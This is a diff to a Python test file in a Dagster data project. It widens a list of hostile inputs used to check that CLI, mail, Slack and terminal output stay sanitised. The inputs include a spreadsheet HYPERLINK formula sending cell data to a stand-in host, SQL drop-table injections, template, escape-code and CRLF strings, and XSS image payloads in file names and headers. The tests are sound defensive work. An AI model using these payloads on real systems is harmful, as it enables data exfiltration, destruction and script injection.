@@ -23,6 +23,7 @@ from typer.testing import CliRunner
 
 from dagster_project.assets.checks import as_check_result
 from dagster_project.commands import app as command_line
+from dagster_project.config.plain_text import on_one_line
 from dagster_project.config.settings import load_settings
 from dagster_project.config.warehouse import connect, warehouse_path
 from expectations.catalogue import known_checks
@@ -43,12 +44,12 @@ HOSTILE = (
     '=HYPERLINK("http://evil.invalid/?"&A1)',
     "'; drop table build.fct_lead_cycles; --",
     "{{ 7 * 7 }}{% raw %}",
-    "\x1b[31m[red]now[/red][/]\x9b32m",
+    "\x1b[31m[red]now[/red][/]\x9b32m\r\nhandoff: published",
     "\u202egpj.exe :warning:",
     "../../x: y # z ${HOME}",
 )
-FILE = "<img src=x onerror=alert(4)> {{ 7 }}.csv"
-HEADER = "<img src=x onerror=alert(5)>[bold] ${HOME}"
+FILE = "<img src=x onerror=alert(4)> {{ 7 }}'; --.csv"
+HEADER = "<img src=x onerror=alert(5)>[bold] ${HOME} \"'; drop table raw.leads; --"
 
 
 def write_export(directory: Path) -> None:
@@ -206,8 +207,7 @@ def test_mail_is_text(done: Done) -> None:
 
 def _sent(text: str) -> str:
     """A text in a message: what can't be seen is written out, and nobody is called."""
-    shown = {"\x1b": r"\x1b", "\x9b": r"\x9b", "\u202e": r"\u202e", "@": "＠"}
-    return "".join(shown.get(sign, sign) for sign in text)
+    return on_one_line(text).replace(r"\n", " ").replace("@", "＠")
 
 
 def test_slack_gets_no_markup_of_others(done: Done) -> None:
@@ -256,7 +256,7 @@ def test_terminal_shows_text(done: Done) -> None:
     for text in HOSTILE:
         page = done.says("explain", text)
         first = page.splitlines()[0]
-        assert first == f"Lead {_sent(text).replace('＠', '@')} of crm"
+        assert first == f"Lead {on_one_line(text)} of crm"
         said.append(page)
     for page in said:
         assert_no_control(page)
